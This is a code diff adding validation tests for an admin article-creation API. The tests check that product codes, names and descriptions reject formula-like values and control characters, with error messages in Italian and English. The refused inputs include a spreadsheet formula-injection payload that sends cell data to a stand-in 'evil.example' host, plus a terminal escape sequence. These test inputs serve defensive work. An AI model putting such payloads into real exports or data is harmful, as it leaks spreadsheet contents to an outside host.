@@ -110,6 +110,57 @@ describe('new articles', () => {
   });
 });
 
+describe('what enters with a new article (decision 219)', () => {
+  const post = (body: unknown, query = '') => staffCall(api, staff, 'POST', `/v1/admin/articles${query}`, body);
+  const articleCount = async () => (await api.db.select({ id: articles.id }).from(articles)).length;
+
+  it('a code is a product code: letters, digits, - _ . / and spaces inside, at most 64 characters', async () => {
+    for (const sku of ['RG-TB-00001', 'ab.12/x_9', 'KIT 2026 A', 'x'.repeat(64), '  RG-7  ']) {
+      const made = await create(await newArticleBody({ sku }));
+      expect(made.sku).toBe(sku.trim());
+    }
+  });
+
+  it('refuses a code a spreadsheet would run or that holds anything else, saying why in the asked language; nothing is made', async () => {
+    const before = await articleCount();
+    const refused = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"click")', '=1+1', '+39 02', '-2+3', '@SUM(A1)', "'=1+1",
+      'RG\t1', 'RG\r1', 'RG\n1', 'RG\u00071', 'RG\u00001', 'RG;1', 'RG,1', 'RG"1', 'Codice più', '/RG', '.RG', 'x'.repeat(65),
+    ];
+    for (const sku of refused) {
+      const error = await expectError(await post(await newArticleBody({ sku })), 400, 'VALIDATION_ERROR');
+      expect(failingFields(error), JSON.stringify(sku)).toEqual(['sku']);
+    }
+    const italian = await expectError(await post(await newArticleBody({ sku: '=1+1' })), 400, 'VALIDATION_ERROR');
+    expect(italian.message).toContain('sku: Codice articolo non valido');
+    const english = await expectError(await post(await newArticleBody({ sku: '=1+1' }), '?lang=en'), 400, 'VALIDATION_ERROR');
+    expect(english.message).toContain('sku: Invalid article code');
+    expect(await articleCount()).toBe(before);
+  });
+
+  it('names are free text without control characters; descriptions may break lines', async () => {
+    const before = await articleCount();
+    for (const [names, field] of [
+      [{ it: 'Borraccia\u0007' }, 'names.it'], [{ it: 'Bor\nraccia' }, 'names.it'], [{ it: 'Borraccia', en: 'Bottle\u001b[31m' }, 'names.en'],
+      [{ it: 'Borraccia', de: 'Tab\there' }, 'names.de'], [{ it: 'Borraccia\u0085' }, 'names.it'],
+    ] as const) {
+      const error = await expectError(await post(await newArticleBody({ names })), 400, 'VALIDATION_ERROR');
+      expect(failingFields(error)).toEqual([field]);
+      expect(error.message).toContain('carattere di controllo');
+    }
+    const description = await expectError(await post(await newArticleBody({ descriptions: { it: 'Riga\u0000' } })), 400, 'VALIDATION_ERROR');
+    expect(failingFields(description)).toEqual(['descriptions.it']);
+    await expectError(await post(await newArticleBody({ descriptions: { fr: 'Ligne\u000b' } })), 400, 'VALIDATION_ERROR');
+    expect(await articleCount()).toBe(before);
+
+    // A name that looks like a formula is a name: the catalogue file never writes names, and any
+    // file that did would put it behind a quote.
+    const made = await create(await newArticleBody({ names: { it: '=1+1 Borraccia' }, descriptions: { it: 'Prima riga\nSeconda riga\tcon tab\r\nTerza' } }));
+    expect(made.names.it).toBe('=1+1 Borraccia');
+    expect(made.descriptions.it).toBe('Prima riga\nSeconda riga\tcon tab\r\nTerza');
+  });
+});
+
 describe('pictures', () => {
   it('a PNG is stored re-encoded, shown on the public product with its renditions, and recorded', async () => {
     const made = await create(await newArticleBody());
